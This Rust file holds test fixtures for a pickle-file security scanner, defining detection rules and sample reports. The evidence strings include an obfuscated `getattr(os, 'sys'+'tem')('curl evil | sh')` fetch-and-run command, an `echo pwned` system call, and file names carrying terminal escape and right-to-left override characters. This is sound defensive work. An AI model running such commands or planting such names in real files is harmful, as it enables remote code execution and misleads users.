//! Reports to write.

use ma_core::policy::Hidden;
use ma_core::report::{ArtifactRecord, Failure, Totals};
use ma_core::{
    ArtifactPath, Depth, Evidence, Gap, GapReason, Inspection, Issue, Line, Report, Section,
    Severity, declare_rule,
};

declare_rule! {
    /// ## What it finds
    /// Calls of functions that run commands, such as
    /// `os.system`:
    ///
    /// - by name,
    /// - through `getattr`, also where the chain
    ///   is long.
    /// ## Why it matters
    /// The command runs with your rights the moment the file is loaded,
    /// before anybody has looked at the model.
    ///
    /// More on that elsewhere.
    /// ## What it leaves alone
    /// Names that are only mentioned.
    /// ## What to do
    /// Do not load this file. Ask its author for weights in a format without code,
    /// such as SafeTensors.
    pub(crate) static CALL = {
        code: "PKL001", name: "pickle-dangerous-call", severity: Critical,
        title: "Runs code when the pickle is loaded",
        aliases: ["S201"],
        references: [Cwe(502), Spec("https://docs.python.org/3/library/pickletools.html")],
    }
}

declare_rule! {
    /// ## What it finds
    /// Classes that nobody here knows.
    /// ## Why it matters
    /// A class can run code of its package while it is restored.
    /// ## What to do
    /// Look at the package, and vouch for it with `--trust` if you know it.
    pub(crate) static UNKNOWN = {
        code: "PKL010", name: "pickle-unknown-class", severity: Warning,
        title: "Builds an unknown class",
        trustable: true,
        references: [],
    }
}

fn at(mut issue: Issue, path: &ArtifactPath) -> Issue {
    issue.location.artifact = path.clone();
    issue
}

fn record(
    path: &ArtifactPath,
    formats: &[&'static str],
    complete: bool,
    depth: u32,
) -> ArtifactRecord {
    ArtifactRecord {
        sha256: None,
        path: path.clone(),
        size: 1234,
        formats: formats.to_vec(),
        complete,
        model: !formats.is_empty(),
        depth,
    }
}

/// A report with a bit of everything, hostile names included.
pub(crate) fn full() -> Report {
    let pkl = ArtifactPath::new("suspicious_model.pkl");
    let member = ArtifactPath::new("big.zip").join("archive/da\u{1b}[31mta\u{202e}.pkl");
    let call = Issue::new(&CALL, "Malicious code execution attempt")
        .at(28..29)
        .why("Contains os.system() call that could run arbitrary commands")
        .evidence(Evidence::code("call", "posix.system('echo pwned')"))
        .evidence(Evidence::fact("opcode", "REDUCE at 28"));
    let chained = Issue::new(&CALL, "Runs a command through getattr")
        .at(7..90)
        .route("stream 2")
        .evidence(Evidence::code(
            "reconstructed",
            "import os\n\tgetattr(os, 'sys' + 'tem')(\n\t\t'curl evil | sh')\u{7}",
        ))
        .evidence(Evidence::bytes("bytes", &[0x80, 4, 0x63]));
    let unknown = Issue::new(&UNKNOWN, "Builds mypackage.models.Net")
        .at(3..5)
        .subject("mypackage.models.Net");
    let vouched = Issue::new(&UNKNOWN, "Builds ours.Net").subject("ours.Net");
    Report {
        depth: Depth::Full,
        targets: vec![
            "suspicious_model.pkl".into(),
            "big.zip".into(),
            "modle.pkl".into(),
        ],
        artifacts: vec![
            record(&pkl, &["pickle"], true, 0),
            record(&ArtifactPath::new("big.zip"), &["zip"], false, 0),
            record(&member, &["pickle"], true, 1),
        ],
        issues: vec![at(unknown, &pkl), at(call, &pkl), at(chained, &member)],
        hidden: vec![Hidden {
            issue: at(vouched, &pkl),
            by: "trusted: ours".into(),
        }],
        gaps: vec![
            Gap {
                artifact: ArtifactPath::new("big.zip").join("secret.bin"),
                reason: GapReason::Encrypted,
                detail: "needs a password".into(),
                range: None,
            },
            Gap {
                artifact: member,
                reason: GapReason::Malformed,
                detail: "the stream breaks off".into(),
                range: Some(100..1234),
            },
        ],
        failures: vec![Failure {
            target: "modle.pkl".into(),
            message: "`modle.pkl` does not exist; did you mean `model.pkl`?".into(),
        }],
        totals: Totals {
            files_scanned: 2,
            files_unrecognised: 3,
            artifacts: 3,
            bytes: 2468,
            bytes_read: 2468,
        },
        interrupted: false,
    }
}

/// The report of a file in which nothing was found.
pub(crate) fn clean() -> Report {
    let path = ArtifactPath::new("model.pkl");
    Report {
        targets: vec!["model.pkl".into()],
        artifacts: vec![record(&path, &["pickle"], true, 0)],
        totals: Totals {
            files_scanned: 1,
            files_unrecognised: 0,
            artifacts: 1,
            bytes: 1234,
            bytes_read: 1234,
        },
        ..Report::default()
    }
}

/// A report in which one rule fired 40 times in one file, and every file of a folder has gaps.
pub(crate) fn noisy() -> Report {
    let mut report = clean();
    let path = ArtifactPath::new("model.pkl");
    for i in 0..40u64 {
        let start = i.saturating_mul(10);
        let issue = Issue::new(&CALL, format!("Calls f{i}"))
            .at(start..start.saturating_add(1))
            .evidence(Evidence::code("call", format!("f{i}()")));
        report.issues.push(at(issue, &path));
        report.gaps.push(Gap {
            artifact: ArtifactPath::new(format!("folder/{i}.bin")),
            reason: GapReason::Limit,
            detail: "more than 10 bytes".into(),
            range: None,
        });
    }
    report.issues[39].severity = Severity::Info;
    report
}

/// A view with offsets, for marks.
pub(crate) fn views() -> Vec<(ArtifactPath, Inspection)> {
    let line = |offset: u64, text: &str| Line {
        offset: Some(offset),
        text: text.into(),
    };
    let pickle = Inspection {
        format: "pickle".into(),
        facts: vec![
            ("protocol".into(), "4".into()),
            ("bytes".into(), "1234".into()),
        ],
        sections: vec![Section {
            title: "As Python".into(),
            lines: vec![
                line(0, "from posix import system"),
                line(20, "x0 = system(\n    'echo\u{1b} pwned')"),
                line(120, "result = x0"),
            ],
        }],
    };
    let member = Inspection {
        format: "zip".into(),
        facts: vec![("members".into(), "1".into())],
        sections: Vec::new(),
    };
    vec![
        (ArtifactPath::new("suspicious_model.pkl"), pickle),
        (ArtifactPath::new("big.zip"), member),
    ]
}
